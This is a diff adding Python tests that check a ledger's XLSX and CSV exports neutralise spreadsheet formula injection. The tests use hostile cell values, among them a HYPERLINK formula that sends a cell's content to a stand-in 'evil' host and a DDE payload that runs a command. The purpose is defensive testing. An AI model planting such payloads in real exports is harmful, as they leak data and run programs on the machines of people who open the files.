@@ -54,3 +54,37 @@ def test_a_month_period_covers_local_days():
     assert (period.first, period.last) == (date(2025, 2, 1), date(2025, 2, 28))
     assert period.start.isoformat() == "2025-01-31T16:00:00+00:00"
     assert period.end.isoformat() == "2025-02-28T16:00:00+00:00"
+
+
+HOSTILE = ['=HYPERLINK("http://evil/?"&B4,"详情")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def _hostile() -> Ledger:
+    book = _ledger()
+    line = list(book.lines[0])
+    line[6], line[8] = HOSTILE[0], "bad\x01char"
+    others = [[i + 2, *line[1:6], text, *line[7:]] for i, text in enumerate(HOSTILE[1:])]
+    return Ledger(book.community_code, "=cmd|' /C calc'!A0", book.month, [line, *others],
+                  book.kpis)  # fmt: skip
+
+
+def test_no_cell_of_an_xlsx_ledger_is_a_formula(tmp_path):
+    path = tmp_path / "l.xlsx"
+    write_xlsx(path, _hostile())
+    sheet = load_workbook(path)["台账"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert sheet["G4"].value == "'" + HOSTILE[0] and sheet["I4"].value == "bad\ufffdchar"
+    # (an XLSX reader gives a stored CR back as LF)
+    shown = [sheet[f"G{r}"].value for r in range(5, 10)]
+    assert shown == ["'" + h.replace("\r", "\n") for h in HOSTILE[1:]]
+
+
+def test_no_cell_of_a_csv_ledger_starts_a_formula(tmp_path):
+    path = tmp_path / "l.csv"
+    write_csv(path, _hostile())
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))[1:]
+    texts = [value for row in rows for value in row]
+    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert rows[0][6] == "'" + HOSTILE[0] and rows[0][8] == "bad\ufffdchar"
